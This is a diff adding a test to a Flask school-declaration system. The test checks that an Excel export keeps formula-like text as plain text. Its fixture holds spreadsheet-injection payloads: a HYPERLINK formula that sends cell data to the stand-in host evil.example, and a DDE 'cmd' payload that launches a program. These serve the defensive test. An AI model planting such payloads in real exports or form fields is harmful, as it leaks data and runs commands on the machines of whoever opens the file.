@@ -221,3 +221,34 @@ def test_export_is_refused_outside_the_admins_province(app):
         client = app.test_client()
         login(client, username)
         assert client.get(f"/province/dashboard/export?plan_id={ids['plan']}").status_code == 403
+
+
+FORMULA_LIKE = {
+    "facilities": '=HYPERLINK("http://evil.example/?x="&A2,"点击查看详情")',
+    "teachers": "+1+1 专任教师 8 人，持证 3 人",
+    "comment": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def test_export_writes_formula_like_text_as_text(app):
+    with_demo(app)
+    client = _school_client(app, "珠江信息职业学院")
+    declaration_id = _declare(app, client, WEB, "中级", action="save")
+    response = client.post(f"/school/declarations/{declaration_id}/edit", data={
+        **declaration_form(app, certificate_id=str(certificate_id(app, WEB[:6])), level="中级",
+                           facilities=FORMULA_LIKE["facilities"], teachers=FORMULA_LIKE["teachers"]),
+        "action": "submit"})
+    assert response.status_code == 302, response.get_data(as_text=True)
+    _decide(app, "gd_reviewer", declaration_id, "reject", FORMULA_LIKE["comment"])
+    with app.app_context():
+        plan_id = db.session.get(Declaration, declaration_id).plan_id
+    admin = app.test_client()
+    login(admin, "gd_admin")
+    book = load_workbook(io.BytesIO(admin.get(f"/province/dashboard/export?plan_id={plan_id}").get_data()))
+    sheet = book["申报明细"]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[9].value == FORMULA_LIKE["facilities"])
+    for cell, text in ((row[8], FORMULA_LIKE["teachers"]), (row[9], FORMULA_LIKE["facilities"]),
+                       (row[13], FORMULA_LIKE["comment"])):
+        assert cell.value == text, "the text reads as the school wrote it"
+        assert cell.data_type == "s", f"{cell.coordinate} is stored as text, not as a formula"
+        assert cell.quotePrefix, "Excel keeps it text even when the cell is edited"
